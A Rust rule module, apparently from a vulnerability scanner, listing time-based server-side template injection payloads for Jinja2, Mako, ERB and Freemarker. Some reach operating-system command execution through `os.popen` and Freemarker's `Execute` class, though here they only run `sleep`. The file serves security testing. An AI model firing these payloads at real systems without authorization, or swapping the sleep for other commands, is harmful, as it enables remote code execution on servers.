// File: ssti.rs
// SPDX-License-Identifier: MIT OR Apache-2.0
//
// Copyright (c) 2025
// - Volker Schwaberow <volker@schwaberow.de>

use super::payload::{PayloadFamily, PayloadTemplate as T};
use super::Rule;

static FAMILIES: [PayloadFamily; 4] = [
    PayloadFamily {
        name: "Jinja2",
        tech: &["jinja2", "python", "flask"],
        whole_seconds: false,
        templates: &[
            T::new("{{ self.__init__.__globals__.__builtins__.__import__('time').sleep({delay}) }}"),
            T::new("{{ cycler.__init__.__globals__.os.popen('sleep {delay}').read() }}"),
            T::new("{% set x = lipsum.__globals__.os.popen('sleep {delay}').read() %}"),
        ],
    },
    PayloadFamily {
        name: "Mako",
        tech: &["mako", "python"],
        whole_seconds: false,
        templates: &[
            T::new("${__import__('time').sleep({delay})}"),
            T::new("<% import time; time.sleep({delay}) %>"),
        ],
    },
    PayloadFamily {
        name: "ERB",
        tech: &["erb", "ruby", "rails"],
        whole_seconds: false,
        templates: &[
            T::new("<%= sleep({delay}) %>"),
            T::new("#{sleep({delay})}"),
        ],
    },
    PayloadFamily {
        name: "Freemarker",
        tech: &["freemarker", "java"],
        whole_seconds: false,
        templates: &[
            T::new("${\"freemarker.template.utility.Execute\"?new()(\"sleep {delay}\")}"),
            T::new("<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"sleep {delay}\")}"),
        ],
    },
];

pub struct TemplateInjectionRule;

impl Rule for TemplateInjectionRule {
    fn id(&self) -> &'static str {
        "ssti"
    }

    fn name(&self) -> &'static str {
        "Template Injection"
    }

    fn cwe(&self) -> u32 {
        1336
    }

    fn families(&self) -> &'static [PayloadFamily] {
        &FAMILIES
    }
}
